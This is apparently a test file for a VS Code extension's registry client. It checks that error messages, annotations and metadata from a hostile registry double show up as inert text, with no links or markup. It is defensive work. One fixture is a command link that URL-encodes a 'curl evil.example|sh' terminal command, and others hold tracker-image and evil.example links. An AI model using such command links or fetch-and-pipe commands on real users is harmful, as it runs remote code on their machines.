import assert from 'node:assert/strict';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { OmlmdClient } from '../../src/core/client';
import { OmlmdError } from '../../src/core/errors';
import { RegistryBrowser } from '../../src/extension/model/browser';
import { mdText, noLinks } from '../../src/extension/model/plainText';
import { describeForVsCode } from '../../src/extension/remedies';
import { ociError, startHostileRegistry, type HostileRegistry } from '../helpers/hostile';
import { tempDir } from '../helpers/tmp';

/** VS Code's own rule for links in a notification (linkedText.ts): what must never match what we show. */
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;
const LINK = '[Sign in again](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%09evil.example%7Csh%5Cn%22%7D)';

/**
 * Registry text is data (issue: hostile registries): an error body, an annotation, a
 * metadata field never becomes a link in a notification or markup in a tooltip. The
 * registry is the hostile-registry helper (a fault-injection double), since the real one
 * never says such things.
 */
describe('registry text shown in VS Code is inert (hostile registry double)', () => {
  let reg: HostileRegistry;
  let client: OmlmdClient;
  before(async () => {
    reg = await startHostileRegistry();
    client = new OmlmdClient({ home: join(tempDir('omlmd-hostile-text-'), 'home') });
  });
  after(async () => reg?.close());

  for (const [status, code] of [[401, 'UNAUTHORIZED'], [403, 'DENIED'], [404, 'MANIFEST_UNKNOWN'], [500, 'UNKNOWN']] as const) {
    test(`a ${status} whose errors[].message holds a command link shows no link in the notification`, async () => {
      reg.on('GET', `/v2/evil${status}/manifests/v1`, (_req, res) => {
        res.writeHead(status, { 'content-type': 'application/json' });
        res.end(ociError(code, `your token expired: ${LINK}`, `see ${LINK}`));
      });
      reg.on('HEAD', `/v2/evil${status}/manifests/v1`, (_req, res) => {
        res.writeHead(status);
        res.end();
      });
      const e = await client.inspect(`${reg.host}/evil${status}:v1`).then(() => undefined, (x: unknown) => x);
      assert.ok(e instanceof OmlmdError, String(e));
      const { message } = describeForVsCode(e, reg.host);
      assert.doesNotMatch(message, NOTIFICATION_LINK, message);
      assert.doesNotMatch(message, /\]\(command:/);
      if (status !== 404) assert.match(e.message, NOTIFICATION_LINK, 'the core keeps what the registry said (the test has teeth)');
      if (e.message.includes('Sign in again')) assert.match(message, /Sign in again\] \(command:/, 'the text stays readable');
    });
  }

  test('a body that is not JSON, first line a link, shows no link either', async () => {
    reg.on('GET', '/v2/evilplain/manifests/v1', (_req, res) => {
      res.writeHead(502, { 'content-type': 'text/plain' });
      res.end(`${LINK}\nmore`);
    });
    const e = await client.inspect(`${reg.host}/evilplain:v1`).then(() => undefined, (x: unknown) => x);
    assert.ok(e instanceof OmlmdError);
    assert.doesNotMatch(describeForVsCode(e, reg.host).message, NOTIFICATION_LINK);
  });

  test("the tree's tooltips escape metadata, annotations and artifact types: no link, image, emphasis or HTML", async () => {
    const config = Buffer.from(JSON.stringify({ name: '**Verified ✅**', description: '![x](https://tracker.example/p.png) [docs](command:evil) <img src=x>', author: 'https://evil.example' }));
    reg.model('evil/tip', 'v1', [{ title: 'model.bin', bytes: Buffer.from('w') }], { config, annotations: { 'x.note': '[click](https://evil.example)' } });
    const browser = new RegistryBrowser(() => client, () => [{ host: reg.host }]);
    const node = await browser.artifact({ kind: 'tag', id: 't', store: { kind: 'registry', host: reg.host }, repository: 'evil/tip', tag: 'v1' });
    assert.equal(node.kind, 'artifact');
    const tip = (node as { tooltip: string }).tooltip;
    // No unescaped Markdown construct from the registry: every [ ] ( ) * ! < : is escaped.
    assert.doesNotMatch(tip, /(?<!\\)\[(?!.*\\\])/);
    assert.doesNotMatch(tip, /(?<!\\)!(?<!\\)\[/);
    assert.doesNotMatch(tip, /<img/);
    assert.doesNotMatch(tip, /(?<!\\)https:\/\//);
    assert.match(tip, /\\\*\\\*Verified ✅\\\*\\\*/, 'the fake emphasis shows as the asterisks it is');
  });

  test('noLinks and mdText: line breaks, bidi overrides and control characters go; text stays', () => {
    assert.equal(noLinks('a\r\nb\u202e[x](command:y)\u0007'), 'a b[x] (command:y)');
    assert.equal(noLinks('[x] (y) and [a]\n(command:b)'), '[x] (y) and [a] (command:b)');
    assert.equal(mdText('a*b_[c](d) <e> & f:g'), 'a\\*b\\_\\[c\\]\\(d\\) &lt;e&gt; &amp; f\\:g');
  });
});
